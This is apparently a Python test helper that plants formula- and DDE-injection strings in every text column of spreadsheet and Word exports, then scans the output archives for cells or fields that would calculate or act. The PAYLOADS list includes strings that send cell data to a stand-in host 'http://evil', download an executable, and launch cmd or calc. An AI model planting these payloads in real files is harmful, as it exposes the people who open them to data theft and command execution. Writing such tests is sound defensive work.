"""Texts that must never calculate, and what of a file would: planted in every text column of every export."""

import re
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import IO

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil?"&A1,"click")',
    '=WEBSERVICE("http://evil/"&A1)',
    '=IMPORTXML(CONCAT("http://evil/",A1),"//a")',
    '=IMPORTDATA("http://evil")',
    '=FILTERXML(WEBSERVICE("http://evil"),"//a")',
    '=CALL("urlmon","URLDownloadToFileA","JCCBB",0,"http://evil","x.exe")',
    '=REGISTER.ID("kernel32","WinExec")',
    '=EXEC("cmd")',
    '=DDE("cmd";"/C calc";"x")',
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe'!''",
    "=SUM(1;2)",
    "=R1C1",
    "={1,2;3,4}",
    "{=1+1}",
    "{=TABLE(A1,B1)}",
    "==1+1",
    "=+1",
    "=-1",
    "=@SUM(1)",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "|calc",
    "%0A=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\x00=1+1",
    "\x1b=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u3000=1+1",
    " =1+1",
    "=",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1+1",
    '"=1+1"',
    "#N/A",
    "#REF!",
    'DDE("cmd";"/C calc";"x")',
    "<c><f>1+1</f></c>",
    "]]><f>1+1</f>",
    "&lt;f&gt;1+1",
    "&amp;=1",
    "_x003D_1+1",
    "1",
    "007",
    "1e5",
    "2026-01-01",
    "TRUE",
    " { DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe }",
]
CELL = re.compile(rb'<c r="([A-Z]+\d+)"[^>]*>(?:(?!</c>).)*?<f[\s>/]', re.DOTALL)
FIELD = re.compile(rb"<w:instrText[^>]*>(.*?)</w:instrText>", re.DOTALL)
OURS = ("PAGE", "PAGEREF", "TOC")


def live_formulas(book: str | Path | IO[bytes]) -> set[tuple[str, str]]:
    """Part and place of every cell that calculates, and of everything else that would act."""
    found = set()
    with zipfile.ZipFile(book) as archive:
        for part in archive.namelist():
            data = archive.read(part)
            if part.startswith("xl/worksheets/sheet"):
                found |= {(part, place.decode()) for place in CELL.findall(data)}
            if "externalLink" in part or part.endswith(".bin") or b"<ddeLink" in data:
                found.add((part, ""))
    return found


def live_fields(document: str | Path | IO[bytes]) -> list[str]:
    """Field instructions of a Word document that are not page numbers, references or its contents."""
    return [words for words in _instructions(document) if not words.strip().startswith(OURS)]


def _instructions(document: str | Path | IO[bytes]) -> Iterator[str]:
    with zipfile.ZipFile(document) as archive:
        for part in archive.namelist():
            if part.endswith(".xml"):
                data = archive.read(part)
                assert b"<w:fldSimple" not in data
                yield from (words.decode() for words in FIELD.findall(data))
